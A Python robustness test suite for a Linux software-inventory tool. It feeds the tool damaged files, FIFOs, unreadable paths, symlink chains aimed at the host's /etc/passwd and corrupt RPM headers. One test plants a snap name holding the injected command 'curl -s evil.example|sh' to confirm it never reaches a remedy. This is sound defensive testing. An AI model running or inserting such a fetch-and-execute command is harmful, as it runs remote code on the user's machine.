"""Bad input never produces a traceback, a silent "ok" or a lost product: each file the Linux inspector
reads is replaced, in a copy of a fixture machine, by damaged contents, and the whole machine is inspected
and judged."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from clientcheck.cli import main
from clientcheck.inspect import inspect_machine
from conftest import LINUX_FIXTURES

DEBIAN = LINUX_FIXTURES / "debian-12-desktop" / "root"
UBUNTU = LINUX_FIXTURES / "ubuntu-24.04-snaps" / "root"
PRODUCTS_DEBIAN = {"firefox", "chromium", "chrome", "evince", "okular"}

# Damage a real machine suffers: cut short, emptied, binary garbage, not UTF-8, NUL bytes, CRLF, one
# enormous line.
DAMAGE = {
    "empty": b"",
    "garbage": bytes(range(256)) * 4,
    "latin1": "Version=1.0\nName=Visionneuse de documents \xe9\n".encode("latin-1"),
    "nul-bytes": b"\0" * 512,
    "crlf": b"[Desktop Entry]\r\nType=Application\r\nExec=/usr/bin/evince %U\r\n",
    "huge-line": b"Package: evince\nVersion: " + b"9" * 200_000 + b"\n",
    "half-utf8": "Name=Évince".encode()[:-1],
}

TARGETS = {
    # file in the tree -> the product it can affect (None: the OS or nothing in particular)
    "etc/os-release": None,
    "usr/lib/os-release": None,
    "etc/debian_version": None,
    "var/lib/dpkg/status": None,
    "var/lib/dpkg/info/evince.list": "evince",
    "usr/share/applications/org.gnome.Evince.desktop": "evince",
    "usr/share/applications/firefox-esr.desktop": "firefox",
    "usr/lib/firefox-esr/application.ini": "firefox",
    "usr/share/applications/mimeinfo.cache": None,
    "home/alice/.config/mimeapps.list": None,
}


@pytest.fixture(scope="module")
def debian_copy(tmp_path_factory) -> Path:
    target = tmp_path_factory.mktemp("machine") / "root"
    shutil.copytree(DEBIAN, target, symlinks=True)
    return target


def _check(root: Path, capsys) -> set[str]:
    inventory = inspect_machine("linux", str(root), env={})
    found = {item.product for item in inventory.software}
    for item in inventory.software:
        assert item.version is not None or item.problem, f"{item.product}: unknown without a reason"
    for fmt in ("json", "text"):
        status = main(["check", "--root", str(root), "--platform", "linux", "--format", fmt], env={})
        out, err = capsys.readouterr()
        assert status in (0, 1), err
        assert "Traceback" not in err
        if fmt == "json":
            report = json.loads(out)
            if report["os"]["id"] == "linux":  # the OS could not be identified: that is never "ok"
                assert report["summary"]["status"] in ("unknown", "due", "owed")
    return found


@pytest.mark.parametrize("damage", DAMAGE, ids=list(DAMAGE))
@pytest.mark.parametrize("relative", TARGETS, ids=list(TARGETS))
def test_damaged_file_hides_nothing_else(debian_copy: Path, relative: str, damage: str, capsys):
    path = debian_copy / relative
    original = path.read_bytes()
    try:
        path.write_bytes(DAMAGE[damage])
        found = _check(debian_copy, capsys)
    finally:
        path.write_bytes(original)
    affected = TARGETS[relative]
    if relative == "var/lib/dpkg/status":
        # Without the package database the apps are still listed (their versions unknown or from their
        # own files); none disappears.
        assert found == PRODUCTS_DEBIAN
    else:
        assert PRODUCTS_DEBIAN - {affected} <= found


def test_a_missing_file_is_like_a_damaged_one(debian_copy: Path, capsys):
    for relative in TARGETS:
        path = debian_copy / relative
        original = path.read_bytes()
        path.unlink()
        try:
            _check(debian_copy, capsys)
        finally:
            path.write_bytes(original)


def test_a_fifo_in_place_of_a_file_does_not_hang(debian_copy: Path, capsys):
    path = debian_copy / "usr/share/applications/org.gnome.Evince.desktop"
    original = path.read_bytes()
    path.unlink()
    import os

    os.mkfifo(path)
    try:
        inventory = inspect_machine("linux", str(debian_copy), env={})
    finally:
        path.unlink()
        path.write_bytes(original)
    evince = next(item for item in inventory.software if item.product == "evince")
    assert str(evince.version) == "43.1"  # the package database still knows it
    assert any("org.gnome.Evince.desktop: not a regular file" in warning for warning in inventory.warnings)


def test_an_unreadable_file_is_a_warning(debian_copy: Path, monkeypatch):
    import errno
    import os

    real_open = os.open
    denied = str(debian_copy / "usr/share/applications/org.kde.okular.desktop")

    def fake_open(path, flags, *args):
        if str(path) == denied:
            raise PermissionError(errno.EACCES, "Permission denied", path)
        return real_open(path, flags, *args)

    monkeypatch.setattr(os, "open", fake_open)
    inventory = inspect_machine("linux", str(debian_copy), env={})
    assert "/usr/share/applications/org.kde.okular.desktop: cannot read: Permission denied" in inventory.warnings
    assert {item.product for item in inventory.software} == PRODUCTS_DEBIAN


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=4096), relative=st.sampled_from(sorted(TARGETS)))
def test_any_bytes_in_any_file(debian_copy: Path, data: bytes, relative: str, capsys):
    path = debian_copy / relative
    original = path.read_bytes()
    try:
        path.write_bytes(data)
        _check(debian_copy, capsys)
    finally:
        path.write_bytes(original)


@pytest.mark.parametrize("damage", DAMAGE, ids=list(DAMAGE))
def test_damaged_snap_yaml(tmp_path: Path, damage: str, capsys):
    root = tmp_path / "root"
    shutil.copytree(UBUNTU, root, symlinks=True)
    (root / "snap/firefox/current/meta/snap.yaml").write_bytes(DAMAGE[damage])
    found = _check(root, capsys)
    assert {"firefox", "chromium", "evince"} <= found


def test_a_version_lost_from_dpkg_is_read_from_firefox_own_file(tmp_path: Path):
    root = tmp_path / "root"
    shutil.copytree(DEBIAN, root, symlinks=True)
    status = root / "var/lib/dpkg/status"
    text = status.read_text(encoding="utf-8")
    stanza_start = text.index("Package: firefox-esr\n")
    version_line = text.index("\nVersion: ", stanza_start)
    status.write_text(text[:version_line] + text[text.index("\n", version_line + 1) :], encoding="utf-8")
    inventory = inspect_machine("linux", str(root), env={})
    firefox = next(item for item in inventory.software if item.product == "firefox")
    assert (str(firefox.version), firefox.source, firefox.package, firefox.track) == (
        "128.3.0",
        "application.ini",
        "firefox-esr",
        "esr",
    )


def test_ubuntu_transitional_deb_is_unknown_with_the_reason(tmp_path: Path):
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "etc/os-release").write_text('ID=ubuntu\nNAME="Ubuntu"\nVERSION_ID="22.04"\nVERSION="22.04.5 LTS"\n')
    (root / "var/lib/dpkg/info").mkdir(parents=True)
    (root / "var/lib/dpkg/status").write_text(
        "Package: chromium-browser\nStatus: install ok installed\nArchitecture: amd64\n"
        "Version: 2:1snap1-0ubuntu2\nDescription: Transitional package - chromium-browser -> chromium snap\n\n"
    )
    (root / "var/lib/dpkg/info/chromium-browser.list").write_text(
        "/.\n/usr\n/usr/share\n/usr/share/applications\n/usr/share/applications/chromium-browser.desktop\n"
    )
    (root / "usr/share/applications").mkdir(parents=True)
    (root / "usr/share/applications/chromium-browser.desktop").write_text(
        "[Desktop Entry]\nType=Application\nName=Chromium\nExec=chromium-browser %U\nCategories=Network;WebBrowser;\n"
    )
    inventory = inspect_machine("linux", str(root), env={})
    (chromium,) = inventory.software
    assert chromium.version is None
    assert chromium.problem == "chromium-browser 2:1snap1-0ubuntu2 is a transitional package for the snap"


def _machine(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    shutil.copytree(DEBIAN, root, symlinks=True)
    return root


def test_a_symlink_chain_cannot_reach_the_hosts_files(tmp_path: Path):
    root = _machine(tmp_path)
    os_release = root / "etc/os-release"
    os_release.unlink()
    # 45 links, the last pointing at an absolute path that exists on the host.
    for index in range(45):
        target = f"/etc/l{index + 1}" if index < 44 else "/etc/passwd"
        (root / f"etc/l{index}").symlink_to(target)
    os_release.symlink_to("/etc/l0")
    inventory = inspect_machine("linux", str(root), env={})
    assert inventory.os.id == "debian"  # from /usr/lib/os-release; never the host's /etc/passwd
    assert "/etc/os-release: too many levels of symbolic links, not read" in inventory.warnings


def test_folder_links_back_to_their_parent_end(tmp_path: Path):
    root = _machine(tmp_path)
    applications = root / "usr/share/applications"
    (applications / "self").symlink_to(".")
    (applications / "a").symlink_to(".")
    (applications / "b").symlink_to("..")
    inventory = inspect_machine("linux", str(root), env={})
    assert {item.product for item in inventory.software} == PRODUCTS_DEBIAN


def test_a_multiarch_leftover_does_not_hide_the_installed_package(tmp_path: Path):
    root = _machine(tmp_path)
    status = root / "var/lib/dpkg/status"
    text = status.read_text(encoding="utf-8")
    leftover = "Package: firefox-esr\nStatus: deinstall ok config-files\nPriority: optional\nArchitecture: i386\n\n"
    status.write_text(text.replace("Package: firefox-esr\n", leftover + "Package: firefox-esr\n", 1), encoding="utf-8")
    inventory = inspect_machine("linux", str(root), env={})
    firefox = next(item for item in inventory.software if item.product == "firefox")
    assert (str(firefox.version), firefox.source) == ("128.3.0esr", "dpkg")


def test_shell_text_in_a_snap_name_never_reaches_a_remedy(tmp_path: Path, capsys):
    root = _machine(tmp_path)
    evil = "firefox;curl -s evil.example|sh"
    (root / "snap" / evil / "current/meta").mkdir(parents=True)
    (root / "snap" / evil / "current/meta/snap.yaml").write_text("name: firefox\nversion: 100.0-1\n")
    user_apps = root / "home/alice/.local/share/applications"
    user_apps.mkdir(parents=True, exist_ok=True)
    (user_apps / "evil.desktop").write_text(
        f"[Desktop Entry]\nType=Application\nName=Firefox\nExec=firefox %u\nX-SnapInstanceName={evil}\n"
        "Categories=WebBrowser;\n"
    )
    status = main(["check", "--root", str(root), "--platform", "linux", "--format", "json"], env={})
    report = json.loads(capsys.readouterr().out)
    assert status == 1
    assert not any("curl" in (finding["remedy"] or "") for finding in report["findings"])
    assert not any(item["source"] == "snap" for item in report["software"])


def test_the_distributions_folder_is_recognised_with_a_trailing_slash(tmp_path: Path, monkeypatch):
    from clientcheck.inspect.fsroot import Root

    root = _machine(tmp_path)
    (root / "usr/share/applications/org.example.Unrelated.desktop").write_text(
        "[Desktop Entry]\nType=Application\nName=Unrelated\nExec=unrelated\n"
    )
    reads: list[str] = []
    real_read = Root.read_bytes

    def counting(self, path, *args, **kwargs):
        reads.append(path)
        return real_read(self, path, *args, **kwargs)

    monkeypatch.setattr(Root, "read_bytes", counting)
    from clientcheck.inspect.linux import inspect_linux

    inspect_linux(str(root), {"XDG_DATA_DIRS": "/usr/local/share/:/usr/share/"}, live=False)
    assert not [path for path in reads if path.endswith("org.example.Unrelated.desktop")]


def test_a_damaged_rpm_header_makes_its_apps_unknown(tmp_path: Path):
    import sqlite3
    import struct

    root = tmp_path / "root"
    shutil.copytree(LINUX_FIXTURES / "fedora-41-workstation" / "root", root, symlinks=True)
    database = root / "usr/lib/sysimage/rpm/rpmdb.sqlite"
    connection = sqlite3.connect(database)
    with connection:
        for hnum, blob in connection.execute("SELECT hnum, blob FROM Packages").fetchall():
            data = bytearray(blob)
            count = struct.unpack_from(">i", data, 0)[0]
            for index in range(count):
                tag = struct.unpack_from(">i", data, 8 + 16 * index)[0]
                if tag == 1116:  # DIRINDEXES: give it an impossible negative count
                    struct.pack_into(">i", data, 8 + 16 * index + 12, -5)
            connection.execute("UPDATE Packages SET blob = ? WHERE hnum = ?", (bytes(data), hnum))
    connection.close()  # the last close checkpoints rpm's WAL into the database file, as rpm itself does
    inventory = inspect_machine("linux", str(root), env={})
    unknown = [item for item in inventory.software if item.version is None]
    assert unknown and all("damaged package header" in (item.problem or "") for item in unknown)
